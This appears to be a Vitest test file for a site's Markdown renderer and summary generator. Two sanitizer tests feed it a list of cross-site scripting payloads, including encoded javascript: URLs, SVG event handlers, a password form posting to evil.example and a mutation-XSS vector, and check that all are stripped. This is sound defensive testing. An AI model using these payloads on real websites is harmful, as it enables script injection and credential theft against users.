import { readFile } from 'node:fs/promises';
import { describe, expect, it } from 'vitest';
import { createMarkdownRenderer, loadRawHtml } from '../../../src/content/markdown.js';
import { deriveSummary } from '../../../src/content/summary.js';
import { DIGEST } from '../../helpers/site.js';

// Bodies with raw HTML are rendered synchronously here: the raw-HTML parser is loaded first.
await loadRawHtml();
const zh = createMarkdownRenderer('zh-CN');
const en = createMarkdownRenderer('en');
const BASE = 'https://news.example.com/posts/my-issue/';

describe('Markdown', () => {
  it('makes emphasis work next to CJK punctuation', () => {
    const { html } = zh.render('提示 **“组织不匹配”**的问题，以及**粗体。**后文', BASE);
    expect(html).toContain('<strong>“组织不匹配”</strong>的');
    expect(html).toContain('<strong>粗体。</strong>后文');
    expect(zh.render('~~删除。~~后文', BASE).html).toContain('<del>删除。</del>后文');
  });

  it('renders the seed digest with its bold CJK phrases', async () => {
    const seed = await readFile(DIGEST, 'utf8');
    const { html } = zh.render(seed.split('+++')[2]!, BASE);
    expect(html).not.toMatch(/\*\*/);
    expect(html).toContain('<strong>是什么</strong>');
    expect(html).toContain('<h2>今日要点</h2>');
    expect(html).toContain('<strong>“缓存与密钥绑定”</strong>');
    const punct = zh.render('中文标点旁的强调：**“关键”**、**（括号）**、**《书名》**都应加粗。', BASE).html;
    expect(punct).toContain('<strong>“关键”</strong>、<strong>（括号）</strong>、<strong>《书名》</strong>');
  });

  it('supports GFM tables, strikethrough, task lists and footnotes labelled in the site language', () => {
    const md = '| a | b |\n|---|--:|\n| 1 | 2 |\n\n~~old~~ new\n\n- [x] done\n\n正文[^n]。\n\n[^n]: 注释。';
    const { html } = zh.render(md, BASE);
    expect(html).toContain('<table>');
    expect(html).toContain('<td align="right">2</td>');
    expect(html).toContain('<del>old</del>');
    expect(html).toContain('type="checkbox"');
    expect(html).toContain('>脚注</h2>');
    expect(html).toContain(`href="${BASE}#user-content-fn-n"`);
    expect(html).toContain('id="user-content-fn-n"');
    expect(en.render('x[^1]\n\n[^1]: y', BASE).html).toContain('>Footnotes</h2>');
  });

  it('sanitizes: no script, iframe, style, event handlers, javascript: or data: URLs', () => {
    const md = [
      '<script>alert(1)</script>',
      '<iframe src="https://evil.example/"></iframe>',
      '<img src="x.png" onerror="alert(2)">',
      '<a href="javascript:alert(3)">j</a> [k](javascript:alert(4)) [d](data:text/html;base64,PHNjcmlwdD4=)',
      '![i](data:image/png;base64,AAAA)',
      '<div onclick="alert(5)" style="color:red">div</div>',
      '<style>body{display:none}</style>',
      '<svg><script>alert(6)</script></svg>',
      '<details><summary>more</summary><kbd>Ctrl</kbd></details>',
    ].join('\n\n');
    const { html } = en.render(md, BASE);
    expect(html).not.toMatch(/<script|<iframe|<style|onerror|onclick|javascript:|data:|alert\(2|style=/i);
    expect(html).toContain('<details><summary>more</summary><kbd>Ctrl</kbd></details>');
    expect(html).toContain(`src="${BASE}x.png"`);
  });

  it('sanitizes the variants too: mixed case and entity-encoded javascript:, SVG onload, form, meta refresh, base', () => {
    const md = [
      '<a href="JaVaScRiPt:alert(1)">a</a>',
      '<a href="&#106;avascript:alert(2)">b</a>',
      '<a href="&#x6A;&#x61;vascript&#x3A;alert(3)">c</a>',
      '<a href="java&#x09;script:alert(4)">d</a>',
      '<a href=" javascript:alert(5)">e</a>',
      '[f](JAVASCRIPT:alert(6)) [g](&#106;avascript:alert(7)) [h](<javascript:alert(8)>)',
      '<svg onload="alert(9)"><circle r="1"/></svg>',
      '<svg><animate onbegin="alert(10)" attributeName="x"/></svg>',
      '<form action="https://evil.example/steal"><input name="password"><button formaction="https://evil.example/">go</button></form>',
      '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
      '<base href="https://evil.example/">',
      '<img src=x onerror=alert(11)>',
      '<IMG SRC="jav&#x0D;ascript:alert(12)">',
      '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
      '<a href="vbscript:msgbox(13)">i</a> <a href="data:text/html,<script>alert(14)</script>">j</a>',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(15)>',
    ].join('\n\n');
    const { html } = en.render(md, BASE);
    // No dangerous element, no event or form attribute, no script URL: what is left is text (escaped) and harmless tags.
    expect(html).not.toMatch(/<(form|meta|base|object|embed|svg|style|script|iframe|button|math)\b/i);
    expect(html).not.toMatch(/<[^>]*\s(on\w+|formaction|action|http-equiv)=/i);
    expect(html).not.toMatch(/(href|src)="\s*(javascript|vbscript|data|jav)/i);
    // Only task-list checkboxes survive as inputs: disabled.
    for (const input of html.match(/<input[^>]*>/g) ?? []) expect(input).toMatch(/disabled/);
    expect(html).toContain('<a>a</a>');
  });

  it('makes relative links and images absolute against the issue URL', () => {
    const md = '![a](/images/a.png) ![d](diagram.png) [prev](../other/) [top](#intro) [mail](mailto:a@b.c) [abs](https://x.example/y)';
    const { html } = en.render(md, BASE);
    expect(html).toContain('src="https://news.example.com/images/a.png"');
    expect(html).toContain('src="https://news.example.com/posts/my-issue/diagram.png"');
    expect(html).toContain('href="https://news.example.com/posts/other/"');
    expect(html).toContain(`href="${BASE}#intro"`);
    expect(html).toContain('href="mailto:a@b.c"');
    expect(html).toContain('href="https://x.example/y"');
  });

  it('keeps tight lists tight and loose ones in paragraphs, with tasks, nested lists, fences and reference links', () => {
    const tight = en.render('- a\n- b\n  - c', BASE).html;
    expect(tight).toContain('<li>a</li>');
    expect(tight).not.toContain('<p>');
    const loose = en.render('- a\n\n- b', BASE).html;
    expect(loose).toContain('<li>\n<p>a</p>\n</li>');
    const ordered = en.render('3. x\n4. y', BASE).html;
    expect(ordered).toContain('<ol start="3">');
    const task = en.render('- [ ] open\n- [x] done', BASE).html;
    expect(task).toContain('<input type="checkbox" disabled> open');
    expect(task).toContain('<input type="checkbox" checked disabled> done');
    const fence = en.render('```js title="x"\nlet a = 1;\n```', BASE).html;
    expect(fence).toContain('<pre><code class="language-js">let a = 1;\n</code></pre>');
    const refs = en.render('[one][r] and ![pic][p]\n\n[r]: https://r.example/ "T"\n[p]: p.png', BASE).html;
    expect(refs).toContain('<a href="https://r.example/" title="T">one</a>');
    expect(refs).toContain(`<img src="${BASE}p.png" alt="pic">`);
    const bare = en.render('See https://x.example/a and <https://y.example/b>.', BASE).html;
    expect(bare).toContain('<a href="https://x.example/a">https://x.example/a</a>');
    expect(bare).toContain('<a href="https://y.example/b">https://y.example/b</a>');
  });

  it('removes control characters', () => {
    expect(en.render('a\u0001b\u000Bc', BASE).html).toBe('<p>abc</p>');
  });
});

describe('summary', () => {
  it('counts CJK characters, not words', () => {
    const text = '这是一个很长的句子'.repeat(40);
    const { tree, hast } = zh.render(text, BASE);
    const summary = deriveSummary(tree, hast, 50);
    expect(Array.from(summary.replace('…', '')).length).toBe(50);
    expect(summary.endsWith('…')).toBe(true);
  });

  it('counts words in English and prefers a sentence end', () => {
    const { tree, hast } = en.render('# Heading\n\nOne two three four five. Six seven eight nine ten eleven twelve.', BASE);
    expect(deriveSummary(tree, hast, 7)).toBe('One two three four five.…');
    expect(deriveSummary(tree, hast, 100)).toBe('One two three four five. Six seven eight nine ten eleven twelve.');
  });

  it('honours a <!--more--> divider, as Hugo does', () => {
    const { tree, hast, html } = en.render('# Title\n\nFirst part, kept whole even if long.\n\n<!--more-->\n\nThe rest.', BASE);
    expect(deriveSummary(tree, hast, 3)).toBe('First part, kept whole even if long.');
    expect(html).not.toContain('more');
  });

  it('skips headings, code and struck-out text, and separates list items', () => {
    const { tree, hast } = zh.render('# 标题\n\n```\ncode\n```\n\n- **是什么**：甲。\n- ~~旧~~新：乙。\n\n正文<script>alert(1)</script>。', BASE);
    expect(deriveSummary(tree, hast, 100)).toBe('是什么：甲。 新：乙。 正文。');
  });
});
